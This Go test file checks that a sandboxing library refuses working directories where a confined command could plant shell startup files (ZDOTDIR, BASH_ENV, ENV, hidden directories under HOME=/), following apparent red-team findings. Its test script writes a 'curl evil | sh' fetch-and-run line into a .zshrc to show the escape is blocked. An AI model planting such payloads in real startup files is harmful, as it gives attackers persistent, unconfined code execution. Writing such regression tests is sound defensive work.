package confine_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/gatehouse-dev/gatehouse/confine"
)

// The default writable directories were refused in the startup places
// of home, XDG and PATH, but not where the environment names a shell's
// startup files elsewhere: ZDOTDIR=~/dotfiles/zsh (zsh reads its .zshrc
// there; a directory without a dot), BASH_ENV (sourced by every bash -c)
// and ENV. A command with Dir ~/dotfiles left a .zshrc that the user's
// next shell ran unconfined (red team rtx).
func TestRedteamRTX_ShellStartupFromTheEnvironment(t *testing.T) {
	requireLandlock(t)
	h := newHome(t)
	t.Setenv("HOME", h.dir)
	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV"} {
		t.Setenv(v, "")
	}
	dotfiles := filepath.Join(h.dir, "dotfiles")
	zdot := filepath.Join(dotfiles, "zsh")
	proj := filepath.Join(h.dir, "src", "proj")
	for _, d := range []string{zdot, proj} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	tmp := t.TempDir()
	run := func(dir string) error { return runIn(t, h, dir, "echo 'curl evil | sh' > .zshrc") }
	cases := []struct{ name, env, value, dir, tmp string }{
		{"Dir holding ZDOTDIR", "ZDOTDIR", zdot, dotfiles, tmp},
		{"Dir ZDOTDIR", "ZDOTDIR", zdot, zdot, tmp},
		{"ZDOTDIR with a trailing slash", "ZDOTDIR", zdot + "/", zdot, tmp},
		{"TMPDIR ZDOTDIR", "ZDOTDIR", zdot, proj, zdot},
		{"Dir holding BASH_ENV", "BASH_ENV", filepath.Join(proj, "env.sh"), proj, tmp},
		{"Dir holding ENV", "ENV", filepath.Join(proj, ".shinit"), proj, tmp},
	}
	for _, c := range cases {
		t.Setenv(c.env, c.value)
		t.Setenv("TMPDIR", c.tmp)
		if err := run(c.dir); !errors.Is(err, confine.ErrWritableHome) {
			t.Errorf("%s: want ErrWritableHome, got %v", c.name, err)
		}
		t.Setenv(c.env, "")
	}
	if _, err := os.Stat(filepath.Join(zdot, ".zshrc")); err == nil {
		t.Error("a .zshrc was left in ZDOTDIR")
	}

	// Near misses: a relative or unset ZDOTDIR, and a project beside it,
	// run and write.
	t.Setenv("TMPDIR", tmp)
	t.Setenv("ZDOTDIR", "zsh")
	if err := run(proj); err != nil {
		t.Errorf("relative ZDOTDIR: %v", err)
	}
	t.Setenv("ZDOTDIR", zdot)
	if err := run(proj); err != nil {
		t.Errorf("a project beside ZDOTDIR: %v", err)
	}
}

// TestHiddenDirectoryOfRootHome: HOME=/ (Docker's for a user without a
// passwd entry) has its hidden directories too: a working directory in
// /.config is refused as one in ~/.config is (red team rtx: the prefix
// looked for was "//").
func TestHiddenDirectoryOfRootHome(t *testing.T) {
	requireLandlock(t)
	dir, err := os.MkdirTemp("/", ".gatehouse-hidden-")
	if err != nil {
		t.Skipf("cannot make a hidden directory in / to run in (%v): run as root to check HOME=/", err)
	}
	defer os.RemoveAll(dir)
	work := filepath.Join(dir, "work")
	if err := os.Mkdir(work, 0o700); err != nil {
		t.Fatal(err)
	}
	h := newHome(t)
	t.Setenv("HOME", "/")
	t.Setenv("TMPDIR", t.TempDir())
	if _, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: work}, "true"); !errors.Is(err, confine.ErrWritableHome) {
		t.Errorf("HOME=/ and a working directory in %s: want ErrWritableHome, got %v", dir, err)
	}
	// Near miss: a directory of / that is not hidden is not a startup
	// place of that home (the test's own temporary directory is used).
	if _, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: h.dir + "/work"}, "true"); err != nil {
		t.Errorf("HOME=/ and a working directory in %s: %v", h.dir, err)
	}
}

// runIn runs script with sh, confined by h's policy, in dir. It returns
// Command's error (a refused working directory); a script that fails once
// started fails the test.
func runIn(t *testing.T, h home, dir, script string) error {
	t.Helper()
	cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", script)
	if err != nil {
		return err
	}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", dir, err, out)
	}
	return nil
}
